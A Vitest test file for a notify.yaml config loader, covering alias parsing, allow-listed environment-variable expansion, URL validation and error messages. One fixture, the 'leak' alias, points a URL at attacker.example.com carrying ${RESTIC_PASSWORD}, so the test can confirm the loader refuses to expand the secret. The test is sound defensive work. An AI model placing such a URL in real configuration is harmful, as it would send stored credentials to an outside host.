import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import {
  NotifyConfigError,
  loadNotifyConfig,
  resolveAliases,
  validateNotifyConfig,
} from '../../src/notify/config.js';

function file(text: string): string {
  const path = join(mkdtempSync(join(tmpdir(), 'notify-config-')), 'notify.yaml');
  writeFileSync(path, text);
  return path;
}

describe('notify.yaml', () => {
  it('reads the original format and expands allowed ${ENV} variables', async () => {
    const path = file(
      [
        'aliases:',
        '  telegram:',
        '    name: telegram-notify',
        '    url: "${NOTIFY_TELEGRAM_URL}"',
        '  smtp:',
        '    name: smtp-notify',
        '    url: "smtp://u:${SMTP_PASSWORD}@mail.example.com:587/?from=a@example.com&to=b@example.com&cost=$$5"',
      ].join('\n'),
    );
    const env = { NOTIFY_TELEGRAM_URL: 'telegram://1:abc123@telegram?chats=5', SMTP_PASSWORD: 'pw-from-env' };
    await expect(loadNotifyConfig(path, env, ['SMTP_PASSWORD'])).rejects.toThrow(/cost.*unknown/);
    writeFileSync(path, readFileSync(path, 'utf8').replace('&cost=$$5', ''));
    const config = await loadNotifyConfig(path, env, ['SMTP_PASSWORD']);
    expect(config.aliases.get('telegram')).toEqual({ name: 'telegram-notify', url: env.NOTIFY_TELEGRAM_URL });
    expect(config.aliases.get('smtp')?.url).toContain(':pw-from-env@');
    expect(config.secrets).toEqual(expect.arrayContaining(['pw-from-env', env.NOTIFY_TELEGRAM_URL]));
    expect(resolveAliases(config, ['smtp'])).toEqual([
      { alias: 'smtp', url: config.aliases.get('smtp')?.url },
    ]);
    expect(() => resolveAliases(config, ['nope'])).toThrow(/no alias nope; known aliases: telegram, smtp/);
  });

  it('reports every bad entry at once, each with its path', () => {
    let error: unknown;
    try {
      validateNotifyConfig(
        'notify.yaml',
        {
          aliases: {
            empty: { name: 'x', url: '' },
            noenv: { url: '${NOTIFY_MISSING_VAR}' },
            badurl: { url: 'telegram://nope@telegram?chats=1' },
            typo: { url: 'ntfy://ntfy.sh/t', nmae: 'x' },
            nourl: { name: 'y' },
            good: { url: 'ntfy://ntfy.sh/topic' },
          },
          extra: 1,
        },
        {},
      );
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(NotifyConfigError);
    const problems = (error as NotifyConfigError).problems;
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^aliases\.empty\.url: empty/),
        expect.stringMatching(/^aliases\.noenv\.url: environment variable NOTIFY_MISSING_VAR is not set/),
        expect.stringMatching(/^aliases\.typo: .*nmae/),
        expect.stringMatching(/^aliases\.nourl\.url: /),
        expect.stringMatching(/^\(top level\): .*extra/),
      ]),
    );
    expect((error as Error).message).toContain('notify.yaml:');
    expect((error as NotifyConfigError).exitCode).toBe(2);
  });

  it('refuses a variable outside the allow-list, naming it and the file, and reads nothing from it', async () => {
    const path = file(
      [
        'aliases:',
        '  leak:',
        '    url: "generic://attacker.example.com/?key=${RESTIC_PASSWORD}"',
        '  ok:',
        '    url: "generic://hooks.example.com/${UNIFI_BACKUP_HOOK}"',
      ].join('\n'),
    );
    const env = { RESTIC_PASSWORD: 'repo-secret', UNIFI_BACKUP_HOOK: 'hook-id' };
    const refused = loadNotifyConfig(path, env);
    await expect(refused).rejects.toThrow(NotifyConfigError);
    await expect(refused).rejects.toThrow(
      new RegExp(
        `^${path}: 1 problem:\\n  aliases\\.leak\\.url: environment variable RESTIC_PASSWORD is not allowed here`,
      ),
    );
    await expect(refused).rejects.not.toThrow(/repo-secret/);
    const listed = await loadNotifyConfig(path, env, ['RESTIC_PASSWORD']);
    expect(listed.aliases.get('leak')?.url).toContain('key=repo-secret');
    expect(listed.aliases.get('ok')?.url).toContain('/hook-id');
  });

  it('reports bad URLs of every alias together', () => {
    try {
      validateNotifyConfig('n.yaml', {
        aliases: {
          a: { url: 'telegram://nope@telegram?chats=1' },
          b: { url: 'gotify://h/short' },
          c: { url: 'nosuch://x' },
        },
      });
      throw new Error('accepted');
    } catch (error) {
      expect((error as NotifyConfigError).problems).toEqual([
        expect.stringMatching(/^aliases\.a\.url: telegram URL: token: /),
        expect.stringMatching(/^aliases\.b\.url: gotify URL: token: /),
        expect.stringMatching(/^aliases\.c\.url: nosuch URL: scheme: /),
      ]);
    }
  });

  it('says which file is missing and how to fix broken YAML', async () => {
    await expect(loadNotifyConfig('/nonexistent/notify.yaml')).rejects.toThrow(
      /no such file; give the notify.yaml with --config/,
    );
    await expect(loadNotifyConfig(file('aliases: [unclosed'))).rejects.toThrow(/line \d+/);
    await expect(
      loadNotifyConfig(file('aliases:\n  a:\n    url: "ntfy://ntfy.sh/t"\n    url: "ntfy://ntfy.sh/u"\n')),
    ).rejects.toThrow(/line 4: Map keys must be unique/);
  });
});
